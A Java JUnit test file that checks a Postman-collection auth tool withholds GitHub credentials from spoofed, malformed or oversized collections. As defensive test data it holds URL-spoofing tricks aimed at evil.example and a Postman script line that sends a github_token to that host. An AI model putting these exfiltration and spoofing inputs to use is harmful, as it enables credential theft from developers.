package io.github.authdex.generator.apply;

import static io.github.authdex.generator.apply.PostmanItems.collection;
import static io.github.authdex.generator.apply.PostmanItems.folder;
import static io.github.authdex.generator.apply.PostmanItems.header;
import static io.github.authdex.generator.apply.PostmanItems.items;
import static io.github.authdex.generator.apply.PostmanItems.request;
import static io.github.authdex.generator.apply.PostmanItems.variables;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.authdex.catalog.source.SourceException;
import io.github.authdex.generator.apply.ApplyReport.SetAuth;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Collections that want a credential to go elsewhere, or that are large, deep or broken. */
final class HostileCollectionsTest {
  private static final String GITHUB = "https://api.github.com/user";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://api.github.com@evil.example/user",
        "https://api.github.com:x@evil.example/user",
        "https://api.github.com.evil.example/user",
        "https://evil.example/https://api.github.com/user",
        "https://evil.example?https://api.github.com/user",
        "https://evil.example#https://api.github.com/user",
        "https://evil.example\\\\@api.github.com/user",
        "https://api.github.com{{suffix}}/user",
        "https://{{prefix}}api.github.com/user",
        "https://{{prefix}}.api.github.com/user",
        "{{scheme}}://api.github.com/user",
        "https://api.github.com:8443/user",
        "http://api.github.com/user",
        "api.github.com/user",
        "//api.github.com/user",
        "ftp://api.github.com/user",
        "javascript://api.github.com/%0aalert(1)",
        "https://api.github.com\\t.evil.example/user",
        "https://api.g\\u0456thub.com/user",
        "https://api。github。com/user",
        "https://{{a}}/user",
        "{{loop}}/user",
        "{{bomb}}",
        "",
        "   "
      })
  void aStrangersHostGetsNoCredential(String url) {
    String bomb = "{{b}}".repeat(200);
    AppliedText done =
        AppliedText.of(
            collection(
                items(request("Known", GITHUB), request("Trap", url)),
                variables(
                    "loop",
                    "https://{{loop}}",
                    "a",
                    "{{c}}",
                    "c",
                    "{{a}}",
                    "bomb",
                    bomb,
                    "b",
                    bomb)));

    assertThat(done.tree().has("auth")).isFalse();
    assertThat(done.tree().at("/item/1/request").has("auth")).isFalse();
    assertThat(done.report().set()).extracting(SetAuth::where).containsExactly("Known");
    assertThat(done.report().unknown()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"https://{{x}}.evil.example/", "https://evil.example/", "http://{{x}}/"})
  void whoVouchesForAVariableVouchesForNothingElse(String url) {
    AppliedText done =
        AppliedText.of(
            collection(items(request("Trap", url))),
            AppliedText.CATALOG,
            new ApplyOptions(Optional.of("github"), Map.of()));

    assertThat(done.isChanged()).isFalse();
  }

  @Test
  void aUrlWhosePartsSaySomethingElseIsNobodys() {
    String trap =
        "{\"name\": \"Trap\", \"request\": {\"url\": {\"raw\": \"%s\", \"protocol\": \"https\","
            + " \"host\": %s, \"path\": [\"user\"]}}}";
    for (String item :
        new String[] {
          trap.formatted(GITHUB, "[\"evil\", \"example\"]"),
          trap.formatted("https://evil.example/user", "[\"api\", \"github\", \"com\"]"),
          trap.formatted(GITHUB, "[\"api\", \"github\", \"com/@evil.example\"]"),
          trap.formatted(GITHUB, "[\"api\", \"github\", \"com\"], \"port\": \"1234\""),
          trap.formatted(
              GITHUB,
              "[\"api\", \"github\", \"com\"], \"auth\": {\"user\": \"u\", \"password\": \"p\"}")
        }) {
      assertThat(AppliedText.of(collection(items(item))).report().set()).isEmpty();
    }
  }

  @Test
  void aVariableThatAStrangersRequestSpeaksOfIsNotUsed() {
    for (String trap :
        new String[] {
          request("Trap", "https://evil.example/?t={{github_token}}"),
          request("Trap", "https://evil.example/", header("X", "{{ github_token }}")),
          request("Trap", "https://evil.example/", header("X", "\\u007b\\u007bgithub_token}}")),
          "{\"name\": \"Trap\", \"event\": [{\"listen\": \"test\", \"script\": {\"exec\":"
              + " \"pm.sendRequest('https://evil.example/' + pm.environment.get('github_token'))\"}}],"
              + " \"request\": \"https://evil.example/\"}"
        }) {
      AppliedText done = AppliedText.of(collection(items(request("Me", GITHUB), trap)));

      assertThat(done.tree().at("/item/0/request/auth/bearer/0/value").asText())
          .isEqualTo("{{github_2_token}}");
    }
    AppliedText hidden =
        AppliedText.of(
            collection(
                items(request("Me", GITHUB), request("Trap", "https://evil.example/{{x}}")),
                variables("x", "{{github_token}}")));
    assertThat(hidden.after()).contains("{{github_2_token}}");
  }

  @Test
  void twoHundredFoldersInEachOtherAreNoTrouble() {
    String item = request("Me", GITHUB);
    for (int i = 0; i < 200; i++) {
      item = folder("f" + i, item);
    }
    AppliedText done = AppliedText.of(collection(items(item)));

    assertThat(done.report().set()).extracting(SetAuth::where).containsExactly("Mine");
    assertThat(AppliedText.of(done.after()).isChanged()).isFalse();
  }

  @Test
  void fiftyMebibytesAreReadAndKept() {
    String answer = "x".repeat(1 << 20);
    StringBuilder items = new StringBuilder("\"item\": [\n");
    for (int i = 0; i < 50; i++) {
      items
          .append(i == 0 ? "" : ",\n")
          .append("{\"name\": \"" + i + "\", \"request\": \"" + GITHUB + "\", \"response\":")
          .append(" [{\"body\": \"" + answer + "\"}]}");
    }
    String text = collection(items.append("]").toString());
    AppliedText done = AppliedText.of(text);

    assertThat(done.report().set()).extracting(SetAuth::requests).containsExactly(50);
    assertThat(done.after().startsWith(text.substring(0, text.length() - 3))).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "not JSON",
        "[]",
        "{\"id\": \"1\", \"order\": [], \"requests\": []}",
        "{\"info\": {}, \"item\": {}}",
        "{\"info\": {}, \"item\": [], \"item\": []}"
      })
  void whatIsNoCollectionIsRefused(String text) {
    assertThatThrownBy(
            () -> CollectionReader.read("some.json", text.getBytes(StandardCharsets.UTF_8)))
        .isInstanceOf(SourceException.class)
        .hasMessageStartingWith("some.json:1: error: ");
  }

  @Test
  void unknownShapesAreKept() {
    for (String item :
        new String[] {
          "null",
          "1",
          "{}",
          "{\"request\": null}",
          "{\"request\": {\"url\": null, \"header\": null, \"body\": [], \"auth\": []}}",
          "{\"request\": {\"url\": {\"query\": {}, \"host\": 1}, \"header\": [null, 1, \"a\"]}}",
          "{\"item\": null, \"event\": [null, {\"script\": 1}], \"auth\": {\"type\": 1}}",
          "{\"request\": {\"url\": \""
              + GITHUB
              + "\", \"auth\": {\"type\": \"bearer\", \"bearer\": 1}}}"
        }) {
      AppliedText done = AppliedText.of(collection(items(item)));

      assertThat(AppliedText.of(done.after()).isChanged()).isFalse();
    }
  }
}
